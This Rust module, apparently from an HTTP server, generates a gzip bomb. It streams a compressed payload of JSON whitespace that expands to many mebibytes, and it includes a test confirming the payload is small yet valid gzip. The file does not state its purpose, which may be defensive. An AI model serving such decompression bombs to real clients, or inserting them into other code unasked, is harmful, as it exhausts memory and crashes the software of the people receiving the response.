//! A gzip bomb: one compressed mebibyte, repeated.

use std::sync::OnceLock;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};
use futures_util::stream::{self, StreamExt as _};
use hyper::body::Frame;

use super::send::Pieces;

const MEBIBYTE: usize = 1024 * 1024;
/// A gzip header: deflate, no name, no time, unknown system.
const HEADER: &[u8] = &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// The last, empty block of a deflate stream.
const LAST_BLOCK: &[u8] = &[3, 0];

/// Blanks, which JSON allows anywhere, so that a parser does not stop early.
pub(super) fn pieces(mib: u32) -> Pieces {
    static PACKED: OnceLock<(Bytes, Crc)> = OnceLock::new();
    let (block, one) = PACKED.get_or_init(|| {
        let plain = vec![b' '; MEBIBYTE];
        let mut block = Vec::with_capacity(MEBIBYTE / 64);
        // A full flush resets the compressor, so that the block can be repeated.
        let mut packer = Compress::new(Compression::best(), false);
        let _ = packer.compress_vec(&plain, &mut block, FlushCompress::Full);
        let mut sum = Crc::new();
        sum.update(&plain);
        (block.into(), sum)
    });
    let mut all = Crc::new();
    for _ in 0..mib {
        all.combine(one);
    }
    let mut end = LAST_BLOCK.to_vec();
    end.extend(all.sum().to_le_bytes());
    end.extend(all.amount().to_le_bytes());

    let start = stream::iter([Ok(Frame::data(Bytes::from_static(HEADER)))]);
    let middle = stream::iter((0..mib).map(move |_| Ok(Frame::data(block.clone()))));
    start.chain(middle).chain(stream::iter([Ok(Frame::data(Bytes::from(end)))])).boxed()
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use super::*;

    #[tokio::test]
    async fn a_bomb_is_a_small_and_valid_gzip_file() {
        let packed: Vec<u8> =
            pieces(8).map(|piece| piece.unwrap().into_data().unwrap()).collect::<Vec<_>>().await.concat();
        assert!(packed.len() < 64 * 1024, "{}", packed.len());
        let mut unpacked = Vec::new();
        // Reading to the end checks length and checksum.
        flate2::read::GzDecoder::new(&packed[..]).read_to_end(&mut unpacked).unwrap();
        assert_eq!(unpacked.len(), 8 * MEBIBYTE);
    }
}
